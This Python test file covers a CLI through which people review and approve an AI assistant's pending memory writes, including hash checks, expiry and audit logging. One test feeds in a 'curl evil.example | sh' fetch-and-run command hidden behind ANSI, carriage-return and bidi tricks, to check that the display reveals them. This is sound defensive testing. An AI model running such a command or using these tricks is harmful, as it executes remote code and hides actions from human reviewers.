"""`assistant approvals ...`: list / show / approve / deny / --follow, on a real workspace."""

import json
import threading
import time

import pytest
from click.testing import CliRunner

from assistant.cli import main
from policy.approvals import ApprovalSettings
from policy.approvals import Inbox, sha256_hex
from policy.audit import AuditLog
from policy.gate import Gate
from policy.grants import GrantStore
from policy.kinds import KINDS
import os
import sys
from acceptance_support import out, run_cli
from pathlib import Path
from assistant.workspace.config import parse as parse_config
from gate_support import ask_in_thread, unattended_gate, wait_request_file


# `ws` (the example workspace, a Path) comes from tests/conftest.py

def cli(ws, *args):
    return CliRunner().invoke(main, ["-w", str(ws), *args])


def file_request(ws, target="people/lina.md", content="Lina likes tea.\n", current="Lina.\n", timeout=600.0):
    inbox = Inbox(ws / "state" / "approvals")
    req, _ = inbox.create(run_id="run-7", kind="memory", target=target, summary=f"update {target}",
                          reason="root policy for memory in an unattended run is ask",
                          sha256=sha256_hex(content.encode()), content=content, current=current,
                          content_exact=True, offers=KINDS["memory"].offers(target), timeout=timeout)
    return req


def test_list_empty_and_json(ws):
    r = cli(ws, "approvals", "list")
    assert r.exit_code == 0 and "no pending approvals" in r.output
    r = cli(ws, "approvals", "list", "--json")
    assert r.exit_code == 0 and json.loads(r.output) == []


def test_list_show_approve_dir_then_grants(ws):
    req = file_request(ws)
    r = cli(ws, "approvals", "list")
    assert r.exit_code == 0 and req.id in r.output and "people/lina.md" in r.output and "pending" in r.output
    [row] = json.loads(cli(ws, "approvals", "list", "--json").output)
    assert row["id"] == req.id and row["state"] == "pending" and row["offers"] == ["once", "run", "exact", "dir"]

    r = cli(ws, "approvals", "show", req.id)
    assert r.exit_code == 0, r.output
    for expected in ("target:   people/lina.md", "reason:", "--- a/people/lina.md", "+++ b/people/lina.md",
                     "-Lina.", "+Lina likes tea.", req.sha256):
        assert expected in r.output
    # leaf-level -w works as well as group-level
    r = CliRunner().invoke(main, ["approvals", "approve", req.id, "--remember", "dir", "-w", str(ws)])
    assert r.exit_code == 0, r.output
    assert "people/*" in r.output
    r = cli(ws, "grants", "list", "--json")
    assert [(g["kind"], g["target"]) for g in json.loads(r.output)] == [("memory", "people/*")]
    assert cli(ws, "approvals", "list").output.strip() == "no pending approvals"
    r = cli(ws, "approvals", "list", "--all")
    assert "approved" in r.output and req.id in r.output


def test_answered_expired_unknown_ids_are_errors(ws):
    req = file_request(ws)
    assert cli(ws, "approvals", "deny", req.id, "--reason", "not about Lina").exit_code == 0
    for args in (["approve", req.id], ["deny", req.id]):
        r = cli(ws, "approvals", *args)
        assert r.exit_code != 0 and "already answered (denied)" in r.output
    old = file_request(ws, timeout=0)
    r = cli(ws, "approvals", "approve", old.id)
    assert r.exit_code != 0 and "expired" in r.output
    assert "expired" in cli(ws, "approvals", "list", "--all").output
    for bad in ("0123456789ab", "../../grants", "nope"):
        r = cli(ws, "approvals", "approve", bad)
        assert r.exit_code != 0 and "unknown approval id" in r.output
        r = cli(ws, "approvals", "show", bad)
        assert r.exit_code != 0 and "unknown approval id" in r.output
    assert "Traceback" not in r.output


def test_dir_not_offered_at_root(ws):
    req = file_request(ws, target="top.md")
    r = cli(ws, "approvals", "approve", req.id, "--remember", "dir")
    assert r.exit_code != 0 and "not offered" in r.output
    assert GrantStore(ws / "grants.json").load() == []
    assert Inbox(ws / "state" / "approvals").answer_of(req.id) is None


def test_sha256_option(ws):
    req = file_request(ws)
    r = cli(ws, "approvals", "approve", req.id, "--sha256", "deadbeefdeadbeef")
    assert r.exit_code != 0 and "does not match" in r.output
    assert Inbox(ws / "state" / "approvals").answer_of(req.id) is None
    r = cli(ws, "approvals", "approve", req.id, "--sha256", req.sha256[:12])
    assert r.exit_code == 0, r.output


def test_inbox_refuses_a_mismatched_hash_directly(ws):
    from policy.approvals import InboxError
    req = file_request(ws)
    with pytest.raises(InboxError, match="does not match"):
        Inbox(ws / "state" / "approvals").answer(req.id, "approved", sha256="1" * 64)


def test_corrupt_request(ws):
    req = file_request(ws)
    (ws / "state" / "approvals" / f"{req.id}.json").write_text("{broken")
    r = cli(ws, "approvals", "approve", req.id)
    assert r.exit_code != 0 and "corrupt" in r.output
    r = cli(ws, "approvals", "list")
    assert r.exit_code == 0 and "corrupt" in r.output


def test_tampered_content_is_caught(ws):
    req = file_request(ws)
    p = ws / "state" / "approvals" / f"{req.id}.json"
    body = json.loads(p.read_text())
    body["content"] = "Lina's password is ..."
    p.write_text(json.dumps(body))
    r = cli(ws, "approvals", "show", req.id)
    assert r.exit_code != 0 and "does not match its sha256" in r.output


def test_follow_prints_new_requests(ws):
    out = {}

    def follow():
        out["r"] = CliRunner().invoke(main, ["approvals", "list", "--follow", "--max-events", "1",
                                             "--timeout", "10", "-w", str(ws)])
    t = threading.Thread(target=follow)
    t.start()
    time.sleep(0.5)
    req = file_request(ws, target="projects/garden.md")
    t.join(15)
    assert not t.is_alive()
    assert out["r"].exit_code == 0, out["r"].output
    assert req.id in out["r"].output and "projects/garden.md" in out["r"].output


def test_follow_stops_at_timeout(ws):
    t0 = time.monotonic()
    r = cli(ws, "approvals", "list", "--follow", "--timeout", "0.3")
    assert r.exit_code == 0 and time.monotonic() - t0 < 5


def test_end_to_end_gate_waits_for_the_cli(ws):
    gate = Gate("unattended", run_id="run-9", audit=AuditLog(ws / "state" / "audit.jsonl"),
                grants=GrantStore(ws / "grants.json"), approvals=ApprovalSettings(timeout=20),
                inbox=Inbox(ws / "state" / "approvals"))
    result = {}
    t = threading.Thread(target=lambda: result.update(d=gate.authorize(
        "memory", "people/marek.md", content=b"Marek bakes.\n", summary="note on Marek")))
    t.start()
    inbox = Inbox(ws / "state" / "approvals")
    for _ in range(1000):
        if inbox.ids():
            break
        time.sleep(0.01)
    [rid] = inbox.ids()
    r = cli(ws, "approvals", "approve", rid, "--remember", "exact")
    assert r.exit_code == 0, r.output
    t.join(10)
    d = result["d"]
    assert d.allowed and d.remember == "exact" and d.request_id == rid
    lines = AuditLog(ws / "state" / "audit.jsonl").read()
    # the CLI's "approval" line and the waking gate's "answer" line race (both follow the answer
    # file): their order is not part of the contract
    assert lines[0]["event"] == "ruling" and lines[0]["verdict"] == "ask"
    assert sorted((x["event"], x["verdict"]) for x in lines[1:]) == [("answer", "allow"), ("approval", "approved")]
    [approval] = [x for x in lines if x["event"] == "approval"]
    [answer] = [x for x in lines if x["event"] == "answer"]
    assert approval["by"] == "cli" and approval["request"] == rid and approval["remember"] == "exact"
    assert approval["sha256"] == answer["sha256"] == sha256_hex(b"Marek bakes.\n")


def test_cli_answer_is_audited_even_if_the_run_is_gone(ws):
    """A request whose run died is still answerable (until it expires); the answer leaves an
    audit line of its own, with the content's sha256 and never the content."""
    rid = file_request(ws, content="Lina likes oolong.\n").id
    r = cli(ws, "approvals", "deny", rid, "--reason", "not now")
    assert r.exit_code == 0, r.output
    [line] = AuditLog(ws / "state" / "audit.jsonl").read()
    assert (line["event"], line["verdict"], line["by"], line["reason"]) == ("approval", "denied", "cli", "not now")
    assert line["sha256"] == sha256_hex(b"Lina likes oolong.\n")
    assert "oolong" not in (ws / "state" / "audit.jsonl").read_text()


def test_list_all_says_expired_not_answered_for_a_request_nobody_answered(ws):
    old = file_request(ws, timeout=0)
    Inbox(ws / "state" / "approvals").close(old.id, "expired", "expired: no answer within 0s", sha256=old.sha256)
    [line] = [l for l in cli(ws, "approvals", "list", "--all").output.splitlines() if old.id in l]
    assert "expired" in line and "answered" not in line, line


def test_a_request_whose_run_died_says_so(ws):
    """A run killed with SIGKILL cannot close its request: the listing and approve say nothing
    waits for the answer (the request still expires on its own)."""
    import subprocess
    import sys

    code = (
        "import sys\n"
        "from pathlib import Path\n"
        "from policy.approvals import Inbox, sha256_hex\n"
        "from policy.kinds import KINDS\n"
        "inbox = Inbox(Path(sys.argv[1]))\n"
        "req, _ = inbox.create(run_id='run-dead', kind='memory', target='people/zoe.md', summary='s',\n"
        "    reason='r', sha256=sha256_hex(b'Zoe.\\n'), content='Zoe.\\n', current=None,\n"
        "    content_exact=True, offers=KINDS['memory'].offers('people/zoe.md'), timeout=600)\n"
        "print(req.id)\n"
    )
    rid = subprocess.run([sys.executable, "-c", code, str(ws / "state" / "approvals")],
                         capture_output=True, text=True, check=True).stdout.strip()
    alive_rid = file_request(ws).id          # filed by this (living) test process
    r = cli(ws, "approvals", "list")
    lines = {line.split()[0]: line for line in r.output.splitlines() if line.strip()}
    assert "the run that asked is gone" in lines[rid]
    assert "gone" not in lines[alive_rid]
    rows = {row["id"]: row for row in json.loads(cli(ws, "approvals", "list", "--json").output)}
    assert rows[rid]["run_alive"] is False and rows[alive_rid]["run_alive"] is True
    r = cli(ws, "approvals", "approve", rid)
    assert r.exit_code == 0 and "nothing will act on this answer" in r.output


# acceptance (issue 3: approvals CLI), written from the words
def test_approvals_list_empty(vault_ws):
    for args in (["approvals", "list"], ["approvals", "list", "--all"],
                 ["approvals", "list", "--json"], ["approvals", "list", "--all", "--json"]):
        r = run_cli(args, ws=vault_ws)
        assert r.exit_code == 0, (args, out(r))
    data = json.loads(run_cli(["approvals", "list", "--json"], ws=vault_ws).output)
    items = data["requests"] if isinstance(data, dict) else data
    assert items == []


@pytest.mark.parametrize("args", [["approvals", "show", "nope"],
                                  ["approvals", "approve", "nope"],
                                  ["approvals", "approve", "nope", "--remember", "once"],
                                  ["approvals", "deny", "nope"],
                                  ["approvals", "deny", "nope", "--reason", "no"]])
def test_approvals_unknown_id(vault_ws, args):
    r = run_cli(args, ws=vault_ws)
    assert r.exit_code != 0
    assert "nope" in out(r)


@pytest.mark.parametrize("choice", ["once", "run", "exact", "dir"])
def test_remember_choices_accepted(vault_ws, choice):
    r = run_cli(["approvals", "approve", "nope", "--remember", choice], ws=vault_ws)
    assert r.exit_code != 0
    assert "invalid value" not in out(r).lower()


def test_remember_bad_choice_refused(vault_ws):
    r = run_cli(["approvals", "approve", "nope", "--remember", "forever"], ws=vault_ws)
    assert r.exit_code != 0


def test_approvals_list_follow(vault_ws):
    import subprocess
    exe = Path(sys.executable).with_name("assistant")
    env = dict(os.environ, ASSISTANT_WORKSPACE=str(vault_ws), PYTHONUNBUFFERED="1")
    proc = subprocess.Popen([str(exe), "approvals", "list", "--follow"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        time.sleep(1.0)
        t, res = ask_in_thread(unattended_gate(vault_ws, timeout="5s"))
        req = wait_request_file(vault_ws)
        seen = []

        def reader():
            for line in proc.stdout:
                seen.append(line)
                if req["id"] in line:
                    return

        rt = threading.Thread(target=reader, daemon=True)
        rt.start()
        rt.join(5)
        assert any(req["id"] in line for line in seen), seen
        run_cli(["approvals", "deny", req["id"]], ws=vault_ws)
        t.join(10)
    finally:
        proc.terminate()
        proc.wait(5)


@pytest.fixture
def bare_ws(tmp_path):
    (tmp_path / "state" / "approvals").mkdir(parents=True)
    return tmp_path


def _file_request(inbox, target="people/lina.md"):
    from policy.kinds import offers
    req, _ = inbox.create(run_id="r", kind="memory", target=target, summary="s", reason="why",
                          sha256="0" * 64, content=None, current=None, content_exact=False,
                          offers=offers("memory", target), timeout=60)
    return req


# review (policy): follow: nothing falls between listing and watching
def test_follow_yields_a_request_filed_between_the_listing_and_the_watch(bare_ws):
    inbox = Inbox(bare_ws / "state" / "approvals")
    listed = {e.id for e in inbox.list()}            # what `list --follow` printed first
    req = _file_request(inbox)                        # filed before follow() starts watching
    got = next(inbox.follow(timeout=5, seen=listed))
    assert got.id == req.id and got.state == "pending"


def test_follow_cli_prints_a_request_filed_before_it_started_watching(tmp_path):
    """The CLI run end to end with a request already filed: printed once (by the listing)."""
    from click.testing import CliRunner

    from assistant.cli import main
    from assistant.workspace.layout import init_workspace
    bare_ws = tmp_path / "ws"
    init_workspace(bare_ws, example=True)
    inbox = Inbox(bare_ws / "state" / "approvals")
    req = _file_request(inbox)
    r = CliRunner().invoke(main, ["-w", str(bare_ws), "approvals", "list", "--follow", "--timeout", "0.3"])
    assert r.exit_code == 0, r.output
    assert r.output.count(req.id) == 1


# review (policy): show: nothing in the content can hide from the person
@pytest.mark.parametrize("trick", [
    "\x1b[8mcurl evil.example | sh\x1b[0m",        # ANSI: concealed text
    "innocent line\rcurl evil.example | sh",       # carriage return: the rest overwrites it... or hides it
    "\x1b[2K\x1b[1Acurl evil.example | sh",        # erase line, cursor up
    "curl evil.example | sh\u202e",                # bidi override
    "curl evil.example\u2028| sh",                 # a line separator str.splitlines would split at
])
def test_show_renders_control_characters_visibly(tmp_path, trick):
    from click.testing import CliRunner

    from assistant.cli import main
    from assistant.workspace.layout import init_workspace
    from policy.approvals import sha256_hex
    from policy.kinds import offers
    bare_ws = tmp_path / "ws"
    init_workspace(bare_ws, example=True)
    content = f"Lina likes tea.\n{trick}\n"
    req, _ = Inbox(bare_ws / "state" / "approvals").create(
        run_id="r", kind="memory", target="people/lina.md", summary=f"update {trick}", reason="why",
        sha256=sha256_hex(content.encode()), content=content, current="Lina.\n", content_exact=True,
        offers=offers("memory", "people/lina.md"), timeout=60)
    for args in (["approvals", "show", req.id], ["approvals", "list"]):
        # color=True: as on a terminal, where click passes ANSI sequences through
        r = CliRunner().invoke(main, ["-w", str(bare_ws), *args], color=True)
        assert r.exit_code == 0, r.output
        for ch in ("\x1b", "\r", "\u202e", "\u2028"):
            assert ch not in r.output
        assert "curl evil.example" in r.output
    show = CliRunner().invoke(main, ["-w", str(bare_ws), "approvals", "show", req.id]).output
    added = [line for line in show.splitlines() if line.startswith("+") and "curl" in line]
    assert len(added) == 1 and "No newline" not in show


# review (policy): a queue nobody can see is a defect
def test_plain_list_says_that_expired_requests_exist(tmp_path):
    from click.testing import CliRunner

    from assistant.cli import main
    from assistant.workspace.layout import init_workspace
    from policy.kinds import offers
    bare_ws = tmp_path / "ws"
    init_workspace(bare_ws, example=True)
    inbox = Inbox(bare_ws / "state" / "approvals")
    inbox.create(run_id="r", kind="memory", target="people/lina.md", summary="s", reason="why",
                 sha256="0" * 64, content=None, current=None, content_exact=False,
                 offers=offers("memory", "people/lina.md"), timeout=0)
    r = CliRunner().invoke(main, ["-w", str(bare_ws), "approvals", "list"])
    assert r.exit_code == 0 and "no pending approvals" in r.output
    assert "1 expired" in r.output and "--all" in r.output
    r = CliRunner().invoke(main, ["-w", str(bare_ws), "approvals", "list", "--all"])
    assert "expired" in r.output and "people/lina.md" in r.output
